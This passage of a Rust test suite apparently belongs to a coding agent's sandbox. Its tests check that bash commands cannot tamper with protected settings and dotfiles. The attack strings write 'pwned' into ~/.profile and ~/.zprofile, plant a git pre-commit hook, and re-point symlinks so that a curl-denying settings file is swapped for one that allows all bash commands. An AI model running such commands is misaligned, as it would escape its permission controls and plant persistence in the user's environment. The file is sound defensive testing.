        "z=.zpro; echo pwned > {home}/${{z}}file; \
         mkdir {t_}/hooks; printf '#!/bin/sh\\necho pwned\\n' > {t_}/hooks/pre-commit; \
         mkdir {t_}/evil; echo pwned > {t_}/evil/profile; ln -sfn {t_}/evil {home}/dotfiles"
    );
    let r = bash(&p.ctx(Mode::Auto), &attack).await;
    assert!(!t.join("tz").exists(), "{}", r.content);
    assert!(!t.join("hooks").exists(), "{}", r.content);
    assert_eq!(
        std::fs::read_to_string(p.home.join(".profile")).unwrap(),
        "# mine\n",
        "{}",
        r.content
    );
    // The control: unsandboxed, the same command writes through every link.
    let ctx = approved(&p);
    let _ = std::fs::remove_dir_all(t.join("evil"));
    let r = bash(&ctx, &attack).await;
    assert!(t.join("tz").exists(), "{}", r.content);
    assert_eq!(
        std::fs::read_to_string(p.home.join(".profile")).unwrap(),
        "pwned\n"
    );
}

#[tokio::test]
async fn a_link_on_the_way_to_the_settings_re_pointed_by_a_running_command_is_not_followed() {
    enforced();
    let p = Project::new();
    let elsewhere = tempfile::tempdir().unwrap();
    let t = elsewhere.path().canonicalize().unwrap();
    // .decode -> T/l2 -> T/sd (which denies curl); the command re-points T/l2 to a
    // folder whose settings allow everything, and runs on.
    for (dir, rules) in [
        ("sd", "\"deny\": [\"Bash(curl *)\"]"),
        ("evd", "\"allow\": [\"Bash(*)\"]"),
    ] {
        std::fs::create_dir(t.join(dir)).unwrap();
        std::fs::write(
            t.join(dir).join("settings.json"),
            format!("{{\"permissions\": {{{rules}}}}}"),
        )
        .unwrap();
    }
    std::os::unix::fs::symlink(t.join("sd"), t.join("l2")).unwrap();
    std::os::unix::fs::symlink(t.join("l2"), p.path(".decode")).unwrap();
    let swap = format!(
        "ln -sfn {} {}; sleep 2",
        t.join("evd").display(),
        t.join("l2").display()
    );
    let ready = || std::fs::read_link(t.join("l2")).is_ok_and(|l| l == t.join("evd"));
    let (r, _) = two_at_once(&p, &swap, ready, "true", || {
        let (settings, warnings) = decode_core::settings::Settings::load(&p.root);
        assert!(settings.permissions.allow.is_empty(), "{settings:?}");
        assert!(
            settings.permissions.ask.iter().any(|r| r == "bash"),
            "{settings:?}"
        );
        assert!(
            warnings.iter().any(|w| w.message.contains("still running")),
            "{warnings:?}"
        );
    })
    .await;
    // Put back when the command ended.
    assert_eq!(
        std::fs::read_link(t.join("l2")).unwrap(),
        t.join("sd"),
        "{}",
        r.content
    );
    let (settings, _) = decode_core::settings::Settings::load(&p.root);
    assert_eq!(settings.permissions.deny, vec!["Bash(curl *)".to_string()]);
}

#[tokio::test]
async fn the_folders_a_protected_link_leads_through_cannot_be_swapped() {
    enforced();
    let p = Project::new();
    let home = p.home.clone();
    // `.decode -> shared/dec` (shared exists, dec does not), `~/.zprofile ->
    // a/../dots/zprofile` (a exists), and a link loop at `~/.bashrc`.
    std::fs::create_dir(p.path("shared")).unwrap();
    std::os::unix::fs::symlink("shared/dec", p.path(".decode")).unwrap();
    std::fs::create_dir(home.join("a")).unwrap();
    std::os::unix::fs::symlink("a/../dots/zprofile", home.join(".zprofile")).unwrap();
    std::os::unix::fs::symlink("l2", home.join(".bashrc")).unwrap();
    std::os::unix::fs::symlink(".bashrc", home.join("l2")).unwrap();
    let h = home.display();
    let attack = format!(
        "mv shared shared.old; mkdir -p evil/dec; echo '{{}}' > evil/dec/settings.json; ln -s evil shared; \
         mkdir -p {h}/deep/q {h}/deep/dots; echo pwned > {h}/deep/dots/zprofile; \
         mv {h}/a {h}/a.old; ln -s deep/q {h}/a; echo ran"
    );
    let r = bash(&p.ctx(Mode::Auto), &attack).await;
    // The sandbox started despite the loop, and nothing landed.
    assert!(r.content.contains("ran"), "{}", r.content);
    assert!(!p.path(".decode/settings.json").exists(), "{}", r.content);
    assert!(!home.join(".zprofile").exists(), "{}", r.content);
    // The control: unsandboxed, both swaps land.
    let ctx = approved(&p);
    let r = bash(&ctx, &attack).await;
    assert!(p.path(".decode/settings.json").exists(), "{}", r.content);
    assert!(home.join(".zprofile").exists(), "{}", r.content);
}

#[tokio::test]
async fn a_folder_on_the_way_to_a_protected_path_stays_writable() {
    enforced();
    let base = tempfile::tempdir().unwrap();
    let base = base.path().canonicalize().unwrap();
    let p = Project::new();
    // `.claude -> ../<shared>` and `.decode -> a/../b/dec`: the project root and `a`
    // are folders a `..` leaves, `shared` is `.claude` itself; only the agents and
    // the settings are protected.
    let shared = base.join("shared");
    std::fs::create_dir_all(&shared).unwrap();
    std::os::unix::fs::symlink(
        format!("../{}", shared.strip_prefix("/").unwrap().display())
            .replace("../", &"../".repeat(p.root.components().count() - 1)),
        p.path(".claude"),
    )
    .unwrap();
    assert_eq!(p.path(".claude").canonicalize().unwrap(), shared);
    std::fs::create_dir_all(p.path("a")).unwrap();
    p.write("b/dec/settings.json", SETTINGS);
    std::os::unix::fs::symlink("a/../b/dec", p.path(".decode")).unwrap();
    let r = bash(
        &p.ctx(Mode::Auto),
        &format!(
            "echo hi > newfile && echo hi > a/f && echo hi > {}/f && echo ok; \
             d=.dec; echo '{{}}' > ${{d}}ode/settings.json; mkdir -p .claude/agents",
            shared.display()
        ),
    )
    .await;
    assert!(r.content.contains("ok"), "{}", r.content);
    assert_eq!(p.read("b/dec/settings.json"), SETTINGS, "{}", r.content);
    assert!(!shared.join("agents").exists(), "{}", r.content);
}
